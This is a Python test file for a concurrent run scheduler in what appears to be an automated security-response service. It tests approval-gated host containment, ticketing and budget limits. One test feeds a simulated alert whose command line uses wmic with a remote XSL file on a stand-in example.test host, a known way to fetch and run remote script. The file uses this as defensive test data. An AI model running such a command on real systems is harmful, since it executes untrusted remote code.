"""Several runs are carried side by side, and nothing of what holds for one is lost by it."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from threading import Barrier, Event, Lock
from typing import Any

import msgspec
import pytest

from runner.journal import Fenced, approvals, runs
from runner.journal.records import Run, RunStatus
from runner.lanes import Lanes
from tests.polling import NO_CANARY, polling_world, store
from tests.world import World, running_world
from tests.world_settings import HOST

SIX = 6


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    """Six cases on six hosts, each with a queued run."""
    with polling_world(tmp_path) as found:
        found.clock.advance(60)
        for number in range(SIX):
            store(found, number)
        found.journal.own()
        found.service.poller.begin()
        while found.service.poller.next_due_at() is not None:
            found.clock.advance(1)
            found.service.poller.advance()
        yield found


def ended(world: World, run: Run) -> None:
    with world.journal.write() as tx:
        runs.save(tx, msgspec.structs.replace(run, status=RunStatus.SUCCEEDED, wake_at=None))


def always() -> bool:
    return True


def test_lanes_when_six_runs_are_due_then_three_at_a_time_are_under_way(world: World) -> None:
    """Nobody passes before three have come, so fewer at once would never end."""
    together = Barrier(3, timeout=10)

    def carry(run: Run) -> None:
        together.wait()
        ended(world, run)

    lanes = Lanes(world.journal, world.clock, 3, carry)
    assert lanes.carry_due(always)
    assert {run.status for run in world.runs()} == {"succeeded"}
    assert not lanes.carry_due(always)


def test_lanes_when_one_run_is_due_then_no_thread_is_made(world: World) -> None:
    from threading import current_thread

    first, *others = world.runs()
    for other in others:
        ended(world, other)
    seen = []

    def carry(run: Run) -> None:
        seen.append((run.id, current_thread().name))
        ended(world, run)

    assert Lanes(world.journal, world.clock, 8, carry).carry_due(always)
    assert seen == [(first.id, "MainThread")]


def test_lanes_when_a_case_has_two_runs_then_they_never_go_side_by_side(world: World) -> None:
    for run in world.runs():
        again = msgspec.structs.replace(run, id=f"{run.id}-again")
        with world.journal.write() as tx:
            runs.save(tx, again)
    under_way: list[str] = []
    carried, guard = [], Lock()
    both = Barrier(2, timeout=10)

    def carry(run: Run) -> None:
        with guard:
            assert run.case_id not in under_way
            under_way.append(run.case_id)
        both.wait()
        with guard:
            under_way.remove(run.case_id)
            carried.append(run.id)
        ended(world, run)

    assert Lanes(world.journal, world.clock, 2, carry).carry_due(always)
    assert sorted(carried) == sorted(run.id for run in world.runs())
    assert len(carried) == 2 * SIX


def test_lanes_when_a_cut_that_was_agreed_to_is_under_way_then_nothing_else_is_begun(
    tmp_path: Path,
) -> None:
    with running_world(tmp_path, {"runs_at_once": 4}) as world:
        world.arm()
        world.hit()
        world.tick()
        world.yes(world.question())
        for number in range(3):
            world.hit(f"WS-{number}")
        world.service.poller.begin()
        world.journal.own()
        while world.service.poller.next_due_at() is not None:
            world.clock.advance(1)
            world.service.poller.advance()
        world.service.crew.cards.advance()
        with world.journal.read() as tx:
            urgent = approvals.due_call(tx)
        assert urgent is not None
        begun: list[str] = []
        other_began = Event()

        def carry(run: Run) -> None:
            begun.append(run.id)
            if run.id != urgent.run_id:
                other_began.set()
            else:
                assert not other_began.wait(0.3)
                with world.journal.write() as tx:
                    sent = msgspec.structs.replace(approvals.read(tx, urgent.id), due_at=None)
                    approvals.save(tx, sent)
            ended(world, run)

        lanes = Lanes(world.journal, world.clock, 4, carry)
        while lanes.carry_due(always):
            pass
        assert begun[0] == urgent.run_id
        assert len(begun) == 4


def test_lanes_when_told_to_stop_then_what_is_under_way_ends_and_no_more_is_taken(
    world: World,
) -> None:
    stop = Event()
    carried: list[str] = []

    def carry(run: Run) -> None:
        stop.set()
        carried.append(run.id)
        ended(world, run)

    assert Lanes(world.journal, world.clock, 2, carry).carry_due(lambda: not stop.is_set())
    assert 1 <= len(carried) <= 2


def test_lanes_when_another_process_took_over_then_that_is_told(world: World) -> None:
    def carry(_run: Run) -> None:
        raise Fenced("another process took the journal over")

    with pytest.raises(Fenced):
        Lanes(world.journal, world.clock, 3, carry).carry_due(always)


def test_tick_when_eight_hosts_are_hit_then_each_is_asked_about_and_cut_off_once(
    tmp_path: Path,
) -> None:
    """The whole job with lanes: the products see two runs at once, and each effect once."""
    met = Barrier(2, timeout=10)
    changes: dict[str, Any] = {
        "runs_at_once": 8,
        "guards": {"budget": {"per_hour": 20, "fleet_percent": 100}},
    }
    hosts = [f"WS-{number}" for number in range(8)]
    with running_world(tmp_path, {**changes, **NO_CANARY}) as world:
        for host in hosts:
            world.falcon.add_device(HOST, hostname=host)
        world.arm()
        for host in hosts[:2]:
            world.before.append((f"GET */devices/*{host}*", met.wait))
        for host in hosts:
            # An address of its own each: of one campaign, fewer are asked about at once.
            world.hit(host, cmdline=f'wmic os get /format:"https://{host}.example.test/a.xsl"')
        for _ in range(3):
            world.clock.advance(60)
            world.tick()
        assert world.before == []
        asked = world.questions()
        assert sorted(item.device.hostname for one in asked for item in one.items) == hosts
        for one in asked:
            world.yes(one)
        for _ in range(4):
            world.clock.advance(60)
            world.tick()
        assert len(world.contains()) == len(set(world.contains())) == 8
        assert {run.status for run in world.runs()} == {"succeeded"}
        assert len({case.ticket.key for case in world.cases() if case.ticket}) == 8
        assert len(world.jira.all_issues()) == 8


def test_tick_when_eight_yes_come_at_once_then_the_budget_still_holds(tmp_path: Path) -> None:
    changes: dict[str, Any] = {
        "runs_at_once": 8,
        "guards": {"budget": {"per_hour": 3, "fleet_percent": 100}},
    }
    hosts = [f"WS-{number}" for number in range(6)]
    with running_world(tmp_path, {**changes, **NO_CANARY}) as world:
        for host in hosts:
            world.falcon.add_device(HOST, hostname=host)
        world.arm()
        for host in hosts:
            world.hit(host)
        for _ in range(6):
            world.clock.advance(60)
            for one in world.questions("open"):
                world.yes(one)
            world.tick()
        assert len(world.contains()) == 3
